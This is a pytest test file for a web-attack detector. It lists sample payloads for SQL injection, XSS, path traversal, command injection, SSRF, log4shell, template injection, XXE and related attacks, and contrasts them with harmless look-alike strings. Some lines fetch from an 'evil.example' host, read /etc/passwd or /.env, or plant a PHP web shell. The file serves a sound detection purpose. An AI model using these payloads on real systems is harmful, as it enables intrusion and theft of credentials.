"""Attacks on web applications: what shows one, and what only looks like it."""

import json
import random
import string
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stonelog.indexer.detect.web import CLASSES, attacks, attacks_of

ATTACKS = {
    "sqli": (
        *(
            "1' or '1'='1",
            "-7552 or 6872=6872",
            "admin'--",
            "admin' #",
            "x' AND 1=1 -- ",
            "1) UNION ALL SELECT NULL,NULL#",
        ),
        *("1;select pg_sleep(5)--", "1'; DROP TABLE users; --", "1 and sleep(5)", "1'||(select 'a' from dual)||'"),
        *("1/**/union/**/select/**/password/**/from/**/users", "/*!50000union*/ /*!50000select*/ 1,2", "' or ''-'"),
        *("1 order by 1,2,3--", "1 and ascii(substring(user(),1,1))>64", "x'; exec xp_cmdshell('dir')--", "1+or+1=1"),
        *(
            "1' waitfor delay '0:0:5'--",
            "(select * from (select(sleep(5)))a)",
            "1 procedure analyse(extractvalue(1,2),1)",
        ),
        "/items?id=1%27%20or%20%271%27%3D%271",
    ),
    "xss": (
        *(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js>",
            '"><img src=x onerror=alert(1)>',
            "<svg/onload=a()>",
        ),
        *("javascript:alert(1)", "jav\tascript:alert(document.cookie)//<a", "';alert(1);//", '" onmouseover="alert(1)'),
        *(
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "\\u003cscript\\u003e",
            "<a href=&#106;avascript:alert(1)>x</a>",
        ),
        *("<iframe srcdoc='x'>", "<div style=width:expression(alert(1))>", "data:text/html;base64,PHNjcmlwdD4="),
        "＜script＞alert(1)＜/script＞",
    ),
    "traversal": (
        *(
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fshadow",
            "..%252f..%252fetc/hosts",
        ),
        *(
            "..%c0%af..%c0%afboot.ini",
            "/%%32%65%%32%65/%%32%65%%32%65/x",
            "....//....//x",
            "/.git/config",
            "/proc/self/environ",
        ),
        *(
            "php://filter/convert.base64-encode/resource=index.php",
            "file:///etc/passwd",
            "/static/../../wp-config.php",
            "/.env",
        ),
    ),
    "cmdi": (
        *(
            ";id",
            "a|/usr/bin/id",
            "`id`",
            "$(whoami)",
            "8.8.8.8; cat /etc/passwd",
            "x && curl http://evil.example/a.sh",
            "| dir c:",
        ),
        *(
            "() { :;}; /bin/bash -c 'id'",
            "c'a't /etc/passwd; wget x",
            "a%0Awhoami",
            "cat${IFS}/etc/passwd",
            "<!--#exec cmd='ls'-->",
        ),
        *("& ping -c 10 127.0.0.1 &", "system('id')", "java.lang.Runtime.getRuntime().exec('id')", "rO0ABXNyABFqYXZh"),
    ),
    "ssrf": (
        *(
            "http://169.254.169.254/latest/meta-data/",
            "gopher://127.0.0.1:6379/_FLUSHALL",
            "http://2130706433/",
            "http://[::1]/",
        ),
        *("http://localhost:22", "http://0x7f000001/", "http://127.1/admin", "http://metadata.google.internal/"),
    ),
    "log4shell": (
        *("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x}"),
        *("%24%7Bjndi:dns://x%7D", "Mozilla/5.0 ${jndi:ldap://x/a}"),
    ),
    "ssti": (
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "{{''.__class__.__mro__[2]}}",
        "#{3*3}",
        "{{config.items()}}",
        "{$smarty.version}",
    ),
    "xxe": (
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!ENTITY % x SYSTEM "http://evil.example/x.dtd">',
        '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></foo>',
    ),
    "php": (
        "<?php system($_GET['c']); ?>",
        "phpinfo()",
        "base64_decode('aWQ=')",
        'O:8:"Example1":1:{s:1:"a";i:1;}',
        "$_GET['x']",
    ),
    "ldap": ("*)(uid=*))(|(uid=*", "*(|(mail=*))", "admin)(|(password=*)", "*)(&"),
    "nosql": ("[$ne]=1", '{"$gt": ""}', "';return true;var a='", "', $where: '1 == 1", "user[$regex]"),
    "crlf": (
        "x\r\nSet-Cookie: admin=1",
        "%0d%0aLocation:%20http://evil.example",
        "a\nContent-Length: 0\n\nHTTP/1.1 200 OK",
    ),
    "scanner": (
        "sqlmap/1.7#stable (https://sqlmap.org)",
        "Nikto/2.5.0",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
    ),
}

HARMLESS = (
    *(
        "",
        "O'Brien",
        "d'Artagnan and O'Neil",
        "c/ iglesia, s/n 11?f",
        "rock 'n' roll",
        "don't or can't",
        "'yes' or 'no'",
    ),
    *(
        "mother or daughter",
        "Tom & Jerry",
        "AT&T",
        "R&D; sales",
        "100% sure",
        "50% off, 2 for $5",
        "$19.99",
        "a = b",
        "x > 5",
    ),
    *(
        "select a book from the shelf",
        "the union select committee",
        "order by phone",
        "drop me a line",
        "1 or 2 in 10 people",
    ),
    *(
        "please update the table from last week",
        "3 and 4 like 5",
        "where are you?",
        "having pain!",
        "insert coin",
        "6'-5\"",
    ),
    *(
        "wait... what?",
        "and so on..",
        "/v1/orders/8812",
        "/a/b.c/d-e_f",
        "/.well-known/security.txt",
        "../img/logo.png",
    ),
    *(
        "C# or F#",
        "version 1.2.3 -- final",
        "see: https://example.org/a?b=c",
        "http://localhost:3000/callback",
        "id",
        "cat",
        "sleep",
    ),
    *(
        "hello; time he came",
        "a hero; more than",
        "| id | time |",
        "use `id` and `time`",
        "alert (see below)",
        "prompt(s)",
    ),
    *(
        "javascript: the good parts",
        "<3 you",
        "a < b and c > d",
        "<b>bold</b> and <i>italic</i>",
        "{{name}}",
        "${name}",
        "#{user}",
    ),
    *(
        "{'key': ['value1', 'value2']}",
        '{"a": "b", "or": "x", "select": 1}',
        "[link](https://example.org)",
        "data[index]",
    ),
    *(
        "first line\nsecond: line",
        "user@example.com",
        "+49 (30) 1234-5678",
        "2026-11-23T10:00:00Z",
        "dGhlIHF1aWNrIGJyb3du",
    ),
    *(
        "text/html,application/xml;q=0.9,*/*;q=0.8",
        "gzip, deflate",
        "de-DE,de;q=0.9",
        "ein Straßenfest — 日本語",
        "(a+b)*c",
    ),
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; U; Android 4.1; id; touch) Mobile",
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://x)",
    "def __init__(self, name): # see /usr/bin/env",
    "if (a == b) return c;",
    "for (i = 0; i < n; i++)",
    "SELECT-gws-banana",
)


@pytest.mark.parametrize(("name", "text"), [(name, text) for name, texts in ATTACKS.items() for text in texts])
def test_an_attack_shows_its_class(name, text):
    """Each of these is named for what it is, whatever else it shows."""
    assert name in attacks(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_looks_like_one_is_none(text):
    """Names, prices, prose, code and ordinary headers show nothing."""
    assert attacks(text) == ()


def test_every_class_has_examples():
    """The table above covers the classes, and they are named in one order."""
    assert tuple(ATTACKS) == CLASSES
    assert attacks("1' or '1'='1' <script>alert(1)</script>") == ("sqli", "xss")


def test_a_bare_name_is_a_scanner_only_as_an_agent():
    """Who searches for nikto is no scanner; who calls themselves so is."""
    assert attacks("nikto") == ()
    assert attacks("nikto", agent=True) == ("scanner",)
    assert attacks("com.facebook.katana", agent=True) == ()


def test_the_texts_of_an_event_by_field():
    """Path, parameters, agent, and what of the request stands in metadata; other fields are not looked at."""
    event = {
        "path": "/a/../../etc/passwd?q=1+or+1%3D1&ok=1&r[$ne]=x",
        "user_agent": "sqlmap/1.7",
        "message": "<script>alert(1)</script>",
        "metadata": {
            "query": {"x": "1' or '1'='1", "page": 2},
            "headers": {"X-Api": "${jndi:dns://x/a}", "Accept": "*/*"},
            "body": {"items": [{"note": "<svg onload=alert(1)>"}], "none": None},
            "params": "a=1&b=%3Bid",
            "note": "<script>alert(1)</script>",
        },
    }
    assert attacks_of(event) == {
        "path": ("traversal",),
        "path?q": ("sqli",),
        "path?r[$ne]": ("nosql",),
        "user_agent": ("scanner",),
        "metadata.query.x": ("sqli",),
        "metadata.headers.X-Api": ("log4shell",),
        "metadata.body.items.note": ("xss",),
        "metadata.params.b": ("cmdi",),
    }


@pytest.mark.parametrize(
    "event", [{}, {"path": None, "metadata": []}, {"path": 3, "metadata": {"body": 1, "query": None}}]
)
def test_events_without_such_texts_show_nothing(event):
    """Fields that are absent or of another kind are passed over."""
    assert attacks_of(event) == {}


def test_what_an_event_costs_is_bounded():
    """A body of very many or very deep values is looked at in part."""
    deep: object = "x"
    for _ in range(5_000):
        deep = {"a": deep}
    assert attacks_of({"metadata": {"body": deep}}) == {}
    assert attacks_of({"metadata": {"body": ["a=1"] * 100_000}}) == {}
    assert list(attacks_of({"metadata": {"body": ["<script>"] + ["'"] * 100_000}})) == ["metadata.body"]


def test_a_long_text_is_looked_at_where_it_tells():
    """In the midst of 60,000 ordinary characters, and encoded twice; past 64 KiB nothing is seen."""
    noise = random.Random(1)
    prose = " ".join("".join(noise.choices(string.ascii_lowercase, k=6)) for _ in range(4_000))
    assert attacks(prose) == ()
    for attack in ("<script>alert(1)</script>", "1' or '1'='1", "../../../etc/passwd", "${jndi:ldap://x/a}"):
        assert attacks(f"{prose} {attack} {prose}") != ()
        assert attacks(f"{prose} {quote(quote(attack))} {prose}") != ()
        assert attacks(f"{prose * 3} {attack}") == ()


HOSTILE = st.text(alphabet="'\"<>/\\.%&#;|()${}[]=+-* \n\0aeo1ıİ＜\ud800", max_size=80)
WORDS = st.lists(st.sampled_from([text for texts in ATTACKS.values() for text in texts] + list(HARMLESS)), max_size=4)
TEXTS = st.one_of(st.text(max_size=80), HOSTILE, WORDS.map(" ".join))


@settings(max_examples=300, deadline=None)
@given(TEXTS, st.booleans())
def test_any_text_has_an_answer(text, agent):
    """Nothing raises; the answer is of the known classes, in their order."""
    shown = attacks(text, agent=agent)
    assert shown == tuple(name for name in CLASSES if name in shown)
    json.dumps(attacks_of({"path": text, "user_agent": text, "metadata": {"query": {text: text}, "body": text}}))


@settings(max_examples=300, deadline=None)
@given(TEXTS.filter(lambda text: "%" not in text and "+" not in text and text.isprintable() and text[:1] not in "/?"))
def test_encoding_changes_nothing(text):
    """URL-encoded, once or twice, a text shows what it shows plain."""
    plain = [name for name in attacks(text) if name != "scanner"]
    for encoded in (quote(text), quote(quote(text)), quote(text, safe="")):
        assert [name for name in attacks(encoded) if name != "scanner"] == plain
